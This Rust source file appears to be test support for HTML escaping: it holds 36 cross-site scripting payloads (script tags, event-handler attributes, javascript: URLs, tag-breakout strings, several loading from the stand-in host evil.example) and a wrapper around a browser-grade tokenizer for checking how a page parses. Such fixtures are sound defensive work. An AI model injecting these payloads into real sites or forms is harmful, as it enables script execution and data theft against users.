//! Texts that could be taken for markup, and how a browser's tokenizer reads a page that contains one.

use std::cell::RefCell;

use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{BufferQueue, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts};

/// Texts that could be taken for markup, of the kinds found in public lists of such texts.
pub const TEXTS: [&str; 36] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT\n>",
    "<script/src=//evil.example>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import'//evil.example'</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" style=\"background:url(//evil.example)\" x=\"",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)",
    "\u{fe64}script\u{fe65}alert(1) ＜script＞ \u{2028}<b>",
];

/// A start or end tag, with the names and values of its attributes.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Tag {
    pub name: String,
    pub attributes: Vec<(String, String)>,
}

/// A page: its tags in order, all text between them, and its comments.
#[derive(Clone, Debug, Default)]
pub struct Page {
    pub tags: Vec<Tag>,
    pub text: String,
    pub comments: Vec<String>,
}

impl Page {
    /// Returns the tags with the names of their attributes: the page's structure, without its texts.
    pub fn shape(&self) -> Vec<(&str, Vec<&str>)> {
        let mut all = Vec::new();
        for tag in &self.tags {
            all.push((tag.name.as_str(), tag.attributes.iter().map(|(name, _)| name.as_str()).collect()));
        }
        all
    }
}

#[derive(Default)]
struct Sink(RefCell<Page>);

impl TokenSink for Sink {
    type Handle = ();

    fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
        let mut page = self.0.borrow_mut();
        match token {
            Token::TagToken(tag) => {
                let attributes = tag.attrs.iter().map(|a| (a.name.local.to_string(), a.value.to_string())).collect();
                page.tags.push(Tag { name: tag.name.to_string(), attributes });
            }
            Token::CharacterTokens(text) => page.text.push_str(&text),
            Token::CommentToken(text) => page.comments.push(text.to_string()),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

/// Tokenizes a page as a browser does. Panics on a comment, because our pages contain none.
pub fn tokenize(html: &str) -> Page {
    let page = tokenize_with_comments(html);
    assert!(page.comments.is_empty(), "comments: {:?}", page.comments);
    page
}

/// Like [`tokenize`], for pages that may contain comments, such as mails with parts for one mail client.
pub fn tokenize_with_comments(html: &str) -> Page {
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let tokenizer = Tokenizer::new(Sink::default(), TokenizerOpts::default());
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.0.into_inner()
}
